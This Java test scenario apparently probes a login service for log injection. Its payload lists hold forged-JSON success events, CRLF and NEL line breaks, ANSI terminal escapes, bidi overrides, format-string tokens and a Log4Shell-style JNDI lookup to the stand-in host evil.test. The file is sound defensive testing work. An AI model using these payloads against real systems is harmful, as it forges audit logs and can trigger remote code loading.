package authlab.scenario.inject;

import static authlab.scenario.Defence.LOG_ENCODING;
import static authlab.scenario.Expectation.refused;

import authlab.client.Answer;
import authlab.client.Person;
import authlab.client.Request;
import authlab.scenario.Attempt;
import authlab.scenario.AuditLog;
import authlab.scenario.Customer;
import authlab.scenario.Facts;
import authlab.scenario.Lab;
import authlab.scenario.Scenario;
import java.time.Duration;
import java.util.List;
import java.util.regex.Pattern;
import java.util.stream.Stream;

/**
 * The attacker sends what ends a line, a string or a colour, so that whoever reads the log reads her words as the service's.
 *
 * <p>A half-fix that does not help: taking out line ends. In a log of JSON a quotation mark is enough.
 */
public final class InjectLog implements Scenario {

    private static final Duration UNTIL_WRITTEN = Duration.ofSeconds(5);

    /** What a terminal would obey. A tab, and what ends the lines of the service itself, is none. */
    private static final Pattern CONTROL = Pattern.compile("[\\p{Cc}&&[^\n\r\t]]");

    /** Behind each she writes what tells this attempt from others. */
    private static final List<String> CLIENTS = List.of(
            "\",\"event\":\"authn_login_success\",\"useragent\":\"",
            "\"}\u0085{\"event\":\"authn_login_success\"}",
            "\u009b2J authn_login_success \u00e9 ",
            "${jndi:ldap://evil.test/x} %n%x%s ");

    private static final List<String> NAMES = List.of(
            "a\r\n{\"datetime\":\"2026-01-01T00:00:00Z\",\"event\":\"authn_login_success\",\"userid\":\"",
            "a\u001b[2J\u2028b\u202ec",
            "a\",\"event\":\"authn_login_success\",\"useragent\":\"");

    @Override
    public Facts facts() {
        return Facts.of("write events of one's own into the log, in names and headers")
                .because(
                        "what was sent is written as a JSON string, in visible ASCII, and a name that is nobody's not at all")
                .onAll(refused(401, "invalid-credentials"))
                .bitesWithout(LOG_ENCODING)
                .standards("ASVS V16.4.1", "WSTG-INPV-17", "CWE-117", "CWE-150", "OWASP A09:2021");
    }

    @Override
    public Attempt attack(Lab lab) {
        lab.step("Given an attacker who fails to log in, and each time says something else of her client or her name,");
        int before = lab.log().length();
        Customer victim = lab.newCustomer();
        String mark = "by-" + System.nanoTime();
        Stream<Attempt> clients = CLIENTS.stream().map(client -> guess(lab, victim.username(), client + mark));
        Stream<Attempt> names = NAMES.stream().map(name -> guess(lab, name + mark, mark));
        Attempt guessed = Attempt.bestOf(Stream.concat(clients, names));

        lab.step("and a machine that reads the log, line by line,");
        int tried = CLIENTS.size() + NAMES.size();
        boolean isEachTold = lab.comesTrue(() -> failures(written(lab, before), mark) == tried, UNTIL_WRITTEN);

        lab.step(
                "when it does not find one failure for each attempt and nothing else, or a terminal would obey: the prize.");
        String written = written(lab, before);
        boolean isNothingElse =
                written.lines().filter(line -> line.contains(mark)).count() == tried;
        if (!isEachTold || !isNothingElse) {
            return Attempt.succeeded("of " + tried + " failures the log tells " + failures(written, mark));
        }
        return CONTROL.matcher(written).find() ? Attempt.succeeded("the log holds what a terminal obeys") : guessed;
    }

    private static String written(Lab lab, int before) {
        return lab.log().substring(before);
    }

    private static Attempt guess(Lab lab, String username, String client) {
        Request request = lab.carrier().login(new Person(username, "not the password"));
        Answer answer = lab.sendRaw(request.header("User-Agent", client));
        return Attempt.of(answer, "the password was guessed");
    }

    /** Only what is said to be one: the attacker would have it otherwise. */
    private static long failures(String written, String mark) {
        return AuditLog.eventsIn(written)
                .filter(event -> event.path("event").asText().equals("authn_login_fail"))
                .filter(event -> event.path("useragent").asText().endsWith(mark))
                .count();
    }
}
